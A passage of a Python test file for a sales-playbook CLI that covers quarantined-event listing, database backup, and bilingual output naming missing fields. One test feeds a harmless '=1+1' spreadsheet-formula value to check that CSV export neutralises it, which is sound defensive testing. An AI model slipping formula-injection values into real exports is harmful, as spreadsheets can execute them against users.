    assert first["event"]["fields"]["dealstage"] == "closedwon" and first["event"]["occurred_at"] == 1000
    code, out, _ = invoke("list", "--quarantined", "--db", db, "--format", "csv", "--since", "2026-11-28")
    assert code == 0 and out == ""
    code, out, _ = invoke("list", "--quarantined", "--db", db, "--format", "csv", "--limit", "1")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["event_id"] == "e1" and json.loads(row["event"])["fields"]["amount"] == "=1+1"  # JSON: no formula
    assert invoke("list", "--quarantined", "--action", "x", "--db", db)[0] == 2
    code, _, err = invoke("audit", "verify", "--db", db)
    assert code == 0 and "quarantined: 2 records" in err


def test_backup_copies_the_log_and_sends_postgresql_users_to_pg_dump(sample_log: str, tmp_path: Path) -> None:
    target = tmp_path / "copy.db"
    code, out, err = invoke("backup", str(target), "--db", sample_log)
    assert code == 0, err
    assert "(evaluations 82, outcomes 0, quarantined 0, records 0, tasks 448); the copy's chains verify" in err
    code, out, _ = invoke("list", "--db", f"sqlite:///{target}", "--format", "csv")
    assert code == 0 and len(out.splitlines()) == 83
    code, _, err = invoke("backup", str(target), "--db", sample_log)
    assert code == 1 and "exists already" in err and "nothing was copied" in err
    code, _, err = invoke("backup", str(tmp_path / "pg.dump"), "--db", "postgresql://u@localhost/playbook")
    assert code == 1 and "pg_dump --format=custom" in err and not (tmp_path / "pg.dump").exists()


NO_TARGET = (
    '{"id": "t1", "opportunity": {"amount": 900000, "close_date": "2026-12-01", "win_rate": 80},'
    ' "account": {"attractiveness": "high", "advantage": "high"}}'
)


def test_an_undetermined_decision_names_the_field_the_case_lacks_in_every_output(tmp_path: Path) -> None:
    path = tmp_path / "cases.jsonl"
    path.write_text(NO_TARGET + "\n", encoding="utf-8")
    run = ("recommend", "--input", str(path), "--as-of", "2026-11-27")
    code, out, err = invoke(*run, "--format", "json")
    assert code == 0, err
    result = json.loads(out)
    jsonschema.validate(result, json.loads((ROOT / "schemas" / "result.schema.json").read_text(encoding="utf-8")))
    assert result["decisions"]["director_action"] is None
    assert result["undetermined"]["director_action"] == ["opportunity.period_target"]
    step = next(s for s in result["trace"] if s.get("decision") == "director_action")
    assert step["missing"] == ["amount_class"]  # the trace keeps what the table itself read
    _, zh, _ = invoke(*run, "--all")
    assert "    项目金额的分类: 未定(缺少:期间任务目标)" in zh.splitlines()
    assert "    客户主任的结论: 未定(缺少:期间任务目标)" in zh.splitlines()
    assert "等待观察" not in zh  # no longer the default row's answer
    _, en, _ = invoke(*run, "--all", "--lang", "en")
    assert "    amount class: undetermined (missing: period target)" in en.splitlines()
    _, hidden, _ = invoke(*run)  # determined decisions only: the count says what is missing
    said = next(line for line in hidden.splitlines() if "项结论未定" in line)
    assert (
        said.startswith("    另有 6 项结论未定,缺少:")
        and "、期间任务目标" in said
        and said.endswith("(--all 显示全部)")
    )
    _, hidden_en, _ = invoke(*run, "--lang", "en")
    said = next(line for line in hidden_en.splitlines() if "more undetermined" in line)
    assert said.startswith("    6 more undetermined, missing: ") and " / period target" in said
    code, why, err = invoke("explain", "--input", str(path), "--case", "t1", "--as-of", "2026-11-27")
    assert code == 0, err
    lines = why.splitlines()
    director = next(i for i, line in enumerate(lines) if line.startswith("  客户主任的结论 = 未定"))
    assert lines[director + 1] == "    缺少:期间任务目标"
